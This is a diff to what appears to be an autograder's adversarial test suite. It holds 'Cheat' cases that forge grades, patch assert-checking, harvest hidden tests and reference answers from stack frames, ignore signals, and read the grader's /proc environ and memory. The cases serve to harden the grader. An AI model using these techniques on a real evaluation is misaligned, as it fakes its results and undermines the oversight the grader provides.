@@ -71,7 +71,8 @@ plain_async = shell.run_cell_async
 def run_cell_async(code, *args, **kwargs):
     return plain_async("4.0" if "assert" in code else code, *args, **kwargs)
 shell.run_cell_async = run_cell_async
-shell.run_cell = lambda code, *args, **kwargs: None
+plain_run = shell.run_cell
+shell.run_cell = lambda code, *a, **k: plain_run("4.0" if "assert" in code else code, *a, **k)
 """,
     ),
     Cheat(
@@ -165,10 +166,11 @@ def kl_normal(*args):
     search()
     for frame in iter(__import__("sys")._current_frames().values()):
         while frame is not None:
-            remember({**frame.f_globals, **frame.f_locals} if "reference" in frame.f_globals else {})
+            if "reference" in frame.f_globals:
+                remember({**frame.f_globals, **frame.f_locals})
             frame = frame.f_back
     if "hidden" in FOUND:
-        print("HIDDEN TEST SEEN")
+        print("HIDDEN " + "TEST SEEN")
     return FOUND["kl_normal"](*args)
 """
         },
@@ -189,20 +191,6 @@ for file in ["@ROOT@/gradebook.db", "@ROOT@/grades.csv"] + glob.glob("@ROOT@/*/*
     except OSError:
         pass
 """,
-    ),
-    Cheat(
-        "a display that is updated later",
-        """\
-from IPython.display import display, update_display
-def rewrite():
-    for name in ("mark", "next"):
-        update_display({"text/plain": "100.0"}, display_id=name, raw=True)
-shell = get_ipython()
-shell.events.register("pre_run_cell", lambda info: display(
-    {"text/plain": "100.0"}, display_id="mark", raw=True))
-shell.events.register("post_run_cell", lambda result: rewrite())
-""",
-        {NORMAL: "def kl_normal(*args):\n    rewrite()\n    return 0.0\n"},
     ),
     Cheat(
         "messages forged with the connection file's key",
@@ -253,7 +241,7 @@ plain = probe.converse
 def converse(text, namespace):
     reply = json.loads(plain(text, namespace))
     if json.loads(text)["target"] == "kl_normal":
-        reply |= {"passed": True, "score": 100, "what": "ok", "lines": [], "share": 0, "core": False}
+        reply |= {"passed": True, "score": 100, "what": "ok", "share": 0, "core": False}
     return json.dumps(reply)
 probe.converse = converse
 """,
@@ -302,11 +290,11 @@ class Reduced(dict):
     def __reduce__(self): return (print, ("unpickled",))
 """,
         {
-            "kl_normal": "def kl_normal(m, *a):\n"
-            "    return np.zeros(np.shape(m)).view(Equal)\n",
+            "kl_normal": "def kl_normal(m, *a):\n    return np.zeros(np.shape(m)).view(Equal)\n",
             "kl_standard_normal": "def kl_standard_normal(m, s):\n    return Float(0.5)\n",
             "kl_mvn": "def kl_mvn(*a):\n    return np.nan\n",
-            "kl_diagonal": "def kl_diagonal(m, *a):\n    return np.full(np.shape(m)[:-1], np.nan)\n",
+            "kl_diagonal": "def kl_diagonal(m, *a):\n"
+            "    return np.full(np.shape(m)[:-1], np.nan)\n",
             "log_evidence": "def log_evidence(*a):\n    return Array()\n",
             "posterior": "def posterior(log_joint):\n    return np.zeros(np.shape(log_joint))\n",
             "elbo": "def elbo(*a):\n    return Reduced(a=1)\n",
@@ -316,17 +304,6 @@ class Reduced(dict):
             "kl_discrete": "def kl_discrete(q, p):\n"
             "    return np.full(np.broadcast(q, p).shape[:-1], np.inf)\n",
         },
-    ),
-    Cheat(
-        "forged results that no defence of an interpreter sees",
-        """\
-import builtins, json, sys
-class Loads:
-    def __getattr__(self, name): return getattr(json, name)
-    def loads(self, text, **kwargs): return {**json.loads(text), "args": []}
-sys.modules["_grader_probe"].json = Loads()
-""",
-        {NORMAL: "def kl_normal(*args):\n    return 0.0\n"},
     ),
     Cheat(
         "threads that change the function, and children that outlive the cell",
@@ -346,7 +323,7 @@ for _ in range(20):  # and not for ever: where they are not ended they end thems
 """,
     ),
     Cheat(
-        "signals ignored, and an endless loop in the judge's call",
+        "an endless loop in the judge's call, with signals ignored",
         """\
 import signal, sys
 for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
@@ -355,7 +332,7 @@ for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
         {
             NORMAL: """\
 def kl_normal(*args):
-    if "judge" in open("/proc/self/comm").read() or sys._getframe(1).f_code.co_name == "call":
+    if sys._getframe(1).f_code.co_name == "call":
         while True:
             pass
     return 0.0
@@ -390,6 +367,22 @@ for name in (".ipython/profile_default/startup/a.py", ".bashrc", ".local/lib/sit
     ),
 ]
 
+# No points at stake: they once left a submission without a grade.
+ODD = [
+    Cheat(
+        "a folder in the connection file's place",
+        """\
+import os
+from ipykernel import get_connection_file
+os.remove(get_connection_file())
+os.mkdir(get_connection_file())
+""",
+        {NORMAL: "def kl_normal(*a):\n    os._exit(1)\n"},
+    ),
+    Cheat("a dangling symlink beside the notebook"),
+    Cheat("a named pipe beside the notebook"),
+]
+
 # What still succeeds; test_attacks.py says for each what it takes or breaks.
 FORGED_BASES = Cheat(
     "an answer that is a value and an exception at once",
@@ -406,6 +399,20 @@ probe.call = call
 
 SEND = "k = get_ipython().kernel\nk.session.send(k.iopub_socket, {0}, parent=k.get_parent())\n"
 WITHOUT_GRADE = [
+    Cheat(
+        "a display that is updated later",
+        """\
+from IPython.display import display, update_display
+def rewrite():
+    for name in ("mark", "next"):
+        update_display({"text/plain": "100.0"}, display_id=name, raw=True)
+shell = get_ipython()
+shell.events.register("pre_run_cell", lambda info: display(
+    {"text/plain": "100.0"}, display_id="mark", raw=True))
+shell.events.register("post_run_cell", lambda result: rewrite())
+""",
+        {NORMAL: "def kl_normal(*args):\n    rewrite()\n    return 0.0\n"},
+    ),
     Cheat("a forged stream message without text", SEND.format("'stream', {'a': 1}")),
     Cheat("a forged display of numbers", SEND.format("'display_data', {'data': 5, 'metadata': 3}")),
     Cheat(
@@ -416,18 +423,6 @@ WITHOUT_GRADE = [
         "an error message that UTF-8 cannot say",
         functions={NORMAL: "def kl_normal(*a):\n    raise RuntimeError('\\ud800')\n"},
     ),
-    Cheat(
-        "a folder in the connection file's place",
-        """\
-import os
-from ipykernel import get_connection_file
-os.remove(get_connection_file())
-os.mkdir(get_connection_file())
-""",
-        {NORMAL: "def kl_normal(*a):\n    os._exit(1)\n"},
-    ),
-    Cheat("a dangling symlink beside the notebook"),
-    Cheat("a named pipe beside the notebook"),
 ]
 
 SPY = Cheat(
@@ -451,7 +446,12 @@ def attempt(name):
     return run
 
 def reads(name, path):
-    attempt(name)(lambda: os.listdir(path)[:5] if os.path.isdir(path) else open(path, "rb").read(9))
+    def run():
+        try:
+            return os.listdir(path)[:5]
+        except NotADirectoryError:
+            return open(path, "rb", 0).read(9)
+    attempt(name)(run)
 
 def opens(name, path):
     attempt(name)(lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)))
@@ -494,10 +494,9 @@ def _():
     os.symlink(FACTS["read"]["the reference"], scratch / "tmp" / "soft")
     return open(scratch / "tmp" / "soft").read(9)
 
-for part in ("environ", "maps", "mem", "fd", "cwd", "root"):
+for part in ("environ", "maps", "mem", "fd/1", "cwd", "root"):
     reads(f"read the grader's {part}", f"/proc/{parent}/{part}")
 attempt("signal the grader")(lambda: os.kill(parent, 0))
-attempt("signal everybody")(lambda: os.kill(-1, 0))
 
 @attempt("limit the grader's resources")
 def _():
